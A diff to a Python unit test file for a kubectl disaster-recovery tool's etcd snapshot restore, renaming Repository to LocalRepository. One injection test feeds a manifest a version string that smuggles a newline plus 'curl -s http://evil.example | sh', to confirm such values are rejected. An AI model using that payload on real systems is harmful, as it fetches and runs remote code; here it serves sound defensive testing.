@@ -18,7 +18,7 @@ from kubectl_dr.etcd.restore.source import LocalSnapshot, local_snapshot, minor_
 from kubectl_dr.etcd.restore.targets import Target, host_path_of
 from kubectl_dr.etcd.snapshot_file import verify_snapshot
 from kubectl_dr.etcd.topology import StaticMember
-from kubectl_dr.repo import Repository
+from kubectl_dr.repo import LocalRepository
 from kubectl_dr.runs import Run
 from kubectl_dr.ui.console import TerminalConsole
 from tests.unit.etcd_scratch import ScratchEtcd, etcd_available
@@ -104,7 +104,7 @@ def local(path: Path, version: str | None) -> LocalSnapshot:
 
 
 def test_snapshot_versions_must_match(snapshot_34: Path, tmp_path: Path) -> None:
-    found = local_snapshot(str(snapshot_34), Repository(tmp_path / "repo"), TerminalConsole())
+    found = local_snapshot(str(snapshot_34), LocalRepository(tmp_path / "repo"), TerminalConsole())
     # etcd keeps its cluster version in the database ("3.4.0", "3.5.0"): a plain file says where it is from.
     assert found.version == "3.4.0" and found.backup_id is None and found.runbook_dir == snapshot_34.parent
     job._check_snapshot(found, "3.4.23")
@@ -205,7 +205,7 @@ def test_node_script_rolls_back_when_its_pod_restarted(tmp_path: Path) -> None:
 def test_a_recorded_version_is_a_version_or_ignored(snapshot_34: Path, tmp_path: Path) -> None:
     """The etcd version in a manifest is printed into the runbook's shell text: a crafted one (a newline and
     a command) is not taken; the snapshot's own cluster version is used instead."""
-    repo = Repository(tmp_path / "repo")
+    repo = LocalRepository(tmp_path / "repo")
     ids = {}
     for name, version in (("good", "v3.4.23"), ("evil", "3.4.23\ncurl -s http://evil.example | sh")):
         with repo.create("etcd-snapshot", {"member": name}, name) as writer:
